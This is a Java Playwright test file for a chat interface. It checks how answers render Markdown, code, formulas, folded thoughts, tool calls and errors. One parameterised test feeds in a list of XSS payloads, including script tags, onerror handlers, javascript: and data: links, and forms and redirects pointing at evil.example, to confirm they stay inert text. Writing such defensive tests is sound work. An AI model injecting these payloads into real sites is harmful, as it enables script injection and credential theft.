package io.jgemma.server.page;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Locator;
import io.jgemma.server.TestServer;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What the page makes of answers: Markdown, code, formulas, thoughts, calls, errors, and text that means harm. */
@ExtendWith(io.jgemma.server.page.Browser.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AnswersTest {
    /** What hostile text would show if it were taken for anything but text. */
    private static final String LIVE =
            "script, iframe, object, embed, form, input, img, svg:not(.glyph), style, link, base, meta, video,"
                    + " [onerror], [onclick], [style]:not(.katex *), a[href^='javascript:' i], a[href^='data:' i],"
                    + " a[href^='vbscript:' i]";

    private final TestServer server = new TestServer();
    private Browser browser;
    private OpenPage page;

    @BeforeAll
    void start(Browser given) {
        browser = given;
        page = OpenPage.of(browser, server);
    }

    @AfterAll
    void stop() {
        try (server) {
            if (page != null) {
                page.close();
            }
        }
    }

    private Locator answer(String text) {
        page.script(new Script().text(text).end("stop"));
        page.askAnew("Go");
        return page.answer().locator(".said");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>document.title = 'hurt'</script>",
                "text <img src=x onerror=\"document.title='hurt'\"> text",
                "<svg onload=\"document.title='hurt'\"><style>*{display:none}</style></svg>",
                "<iframe srcdoc=\"<script>parent.document.title='hurt'</script>\"></iframe>",
                "<a href=\"javascript:document.title='hurt'\">click</a>",
                "[click](javascript:document.title='hurt')",
                "[click](JaVaScRiPt&colon;document.title='hurt')",
                "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
                "![tracker](https://tracker.example/pixel.png?secret=1)",
                "<style>body { display: none }</style>",
                "<form action=\"https://evil.example\"><input name=password></form>",
                "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "```html\n<script>document.title = 'hurt'</script>\n```",
                "```\"><img src=x onerror=document.title='hurt'>\ncode\n```",
                "| <img src=x onerror=document.title='hurt'> |\n|---|\n| <b onclick=document.title='hurt'>x</b> |",
                "$\\href{javascript:document.title='hurt'}{x}$ $\\htmlStyle{display:none}{y}$"
                        + " $\\includegraphics{https://a.example/b.png}$",
                "$<img src=x onerror=document.title='hurt'>$ \\(\"><script>document.title='hurt'</script>\\)",
                "$\\def\\a{\\a\\a}\\a$",
                "<math><mtext><table><mglyph><style><img src=x onerror=document.title='hurt'>",
                "<div data-formula=\"x\" data-language=\"java\" class=\"message\" id=\"input\">",
                "[x]: javascript:document.title='hurt'\n\n[x]",
                "<https://a.example/\"onmouseover=\"document.title='hurt'>",
            })
    void hostileTextStaysText(String hostile) {
        List<String> loaded = new ArrayList<>();
        page.page().onRequest(request -> loaded.add(request.url()));
        Locator answer = answer("Before.\n\n" + hostile + "\n\nAfter.");

        OpenPage.expect(answer).containsText("Before.");
        assertThat(answer.locator(LIVE).count()).as(answer.innerHTML()).isZero();
        assertThat(page.page().title()).isEqualTo("Go");
        page.expect("#input").isVisible();
        assertThat(loaded).allMatch(url -> url.startsWith(server.uri("/").toString()));
    }

    @Test
    void textThatLooksLikeHtmlCanBeRead() {
        Locator answer = answer("Use <b>bold</b> and `<i>` and <script>x</script>, or\n\n<details>\nfolds\n</details>");

        OpenPage.expect(answer).containsText("Use <b>bold</b> and <i> and <script>x</script>, or");
        OpenPage.expect(answer).containsText("<details> folds </details>");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "```",
                "**bold",
                "[link](",
                "$$\\frac{1",
                "| a |\n|--",
                "<",
                "- [",
                "\\",
                "`````\n```\n",
                "> > > > > >",
                "[[[[[[[[[[[[[[[[",
                "\u0000\uFFFF\u202E"
            })
    void brokenMarkdownIsShown(String broken) {
        Locator answer = answer("Before. " + broken + "\n\nAnd " + broken);

        OpenPage.expect(answer).containsText("Before.");
        OpenPage.expect(answer).containsText("And");
    }

    @ParameterizedTest
    @ValueSource(strings = {"> ", "- ", "[", "**a ", "$$a\n", "\\[a\n", "\\(", "|a", "<b>", "```\n"})
    void textThatOverstrainsParsersIsShown(String piece) {
        Locator answer = answer("Before.\n\n" + piece.repeat(3000) + "end");

        OpenPage.expect(answer).containsText("Before.");
        OpenPage.expect(answer).containsText("end");
    }

    @Test
    void showsMarkdown() {
        Locator answer = answer("""
            # Title

            Some **bold**, *slanted* and ~~wrong~~ words, a [link](https://example.org/a?b=1&c=2) and $5 or US$6.

            1. one
            2. two
               - [x] done

            | a | b |
            |:--|--:|
            | 1 | 2 |

            > quoted
            """);

        OpenPage.expect(answer.locator("h1")).hasText("Title");
        OpenPage.expect(answer.locator("strong")).hasText("bold");
        OpenPage.expect(answer.locator("em")).hasText("slanted");
        OpenPage.expect(answer.locator("del")).hasText("wrong");
        OpenPage.expect(answer.locator("a")).hasAttribute("href", "https://example.org/a?b=1&c=2");
        OpenPage.expect(answer.locator("a")).hasAttribute("rel", "noopener noreferrer nofollow");
        OpenPage.expect(answer).containsText("$5 or US$6.");
        OpenPage.expect(answer.locator("ol > li")).hasCount(2);
        OpenPage.expect(answer.locator("ul > li")).containsText("☑ done");
        OpenPage.expect(answer.locator("td").last()).hasAttribute("align", "right");
        OpenPage.expect(answer.locator("blockquote")).hasText("quoted");
    }

    @Test
    void showsCodeInColoursAndCopiesIt() {
        page.context().grantPermissions(List.of("clipboard-read", "clipboard-write"));
        Locator answer = answer("```java\nint one = 1; // first\n```\n\n```\nplain\n```");

        OpenPage.expect(answer.locator(".code").first().locator(".hljs-comment"))
                .hasText("// first");
        OpenPage.expect(answer.locator(".code").last().locator("code")).hasText("plain");
        answer.locator(".code-head button").first().click();
        OpenPage.expect(answer.locator(".code-head button").first()).hasAttribute("aria-label", "Copied");
        assertThat(page.page().evaluate("() => navigator.clipboard.readText()")).isEqualTo("int one = 1; // first");
    }

    @Test
    void showsFormulas() {
        Locator answer =
                answer("Inline $a^2$ and \\(b_1\\).\n\n$$\\frac{x}{y}$$\n\n\\[\\sqrt{2}\\]\n\nWrong: $\\nothing{$.");

        OpenPage.expect(answer.locator(".katex-mathml")).hasCount(4);
        OpenPage.expect(answer.locator("[data-display] .katex-display")).hasCount(2);
        OpenPage.expect(answer.locator(".formula:not(.set)")).hasText("\\nothing{");
        Object moved = answer.locator(".vlist > span").first().evaluate("span => getComputedStyle(span).top");
        assertThat(moved).as("styles that KaTeX sets").isNotEqualTo("auto");
    }

    @Test
    void foldsThoughtsAndCalls() {
        page.find("#new").click();
        page.script(new Script()
                .thoughts("They greet **me**.")
                .text("Hello!")
                .call(0, "first", "{\"a\":1}")
                .call(1, "second", "no JSON <b>")
                .end("tool_calls"));
        page.ask("Go");
        Locator thoughts = page.answer().locator("details.thoughts");
        OpenPage.expect(thoughts.locator("summary")).containsText("Thought");
        OpenPage.expect(thoughts.locator("strong")).isHidden();
        thoughts.locator("summary").click();
        OpenPage.expect(thoughts.locator("strong")).hasText("me");
        OpenPage.expect(page.answer().locator("details.call")).hasCount(2);
        OpenPage.expect(page.answer().locator("details.call pre").last()).hasText("no JSON <b>");

        page.script(new Script().text("Thanks").end("stop"));
        page.find(".results textarea").first().fill("one");
        page.find(".results textarea").last().fill("two");
        page.find(".results button").click();
        page.expect(".assistant").hasCount(2);
        page.settled();

        String sent = page.requests().getLast().get("messages").toString();
        assertThat(sent)
                .contains("\"reasoning_content\":\"They greet **me**.\"")
                .contains("{\"role\":\"tool\",\"tool_call_id\":\"call_0\",\"content\":\"one\"}")
                .contains("{\"role\":\"tool\",\"tool_call_id\":\"call_1\",\"content\":\"two\"}");
    }

    @Test
    void saysWhatWentWrong() {
        page.find("#new").click();
        page.script(
                new Script().text("Half an ans").error("out of <b>memory</b>").cut());
        page.ask("Go");
        OpenPage.expect(page.answer()).containsText("Half an ans");
        OpenPage.expect(page.answer().locator(".error")).hasText("out of <b>memory</b>");

        page.script(new Script().text("Half").cut());
        page.ask("Go");
        OpenPage.expect(page.answer().locator(".error")).hasText("the connection was lost");

        page.unscript();
        page.ask("word ".repeat(2000));
        OpenPage.expect(page.answer().locator(".error")).containsText("1024");
    }
}
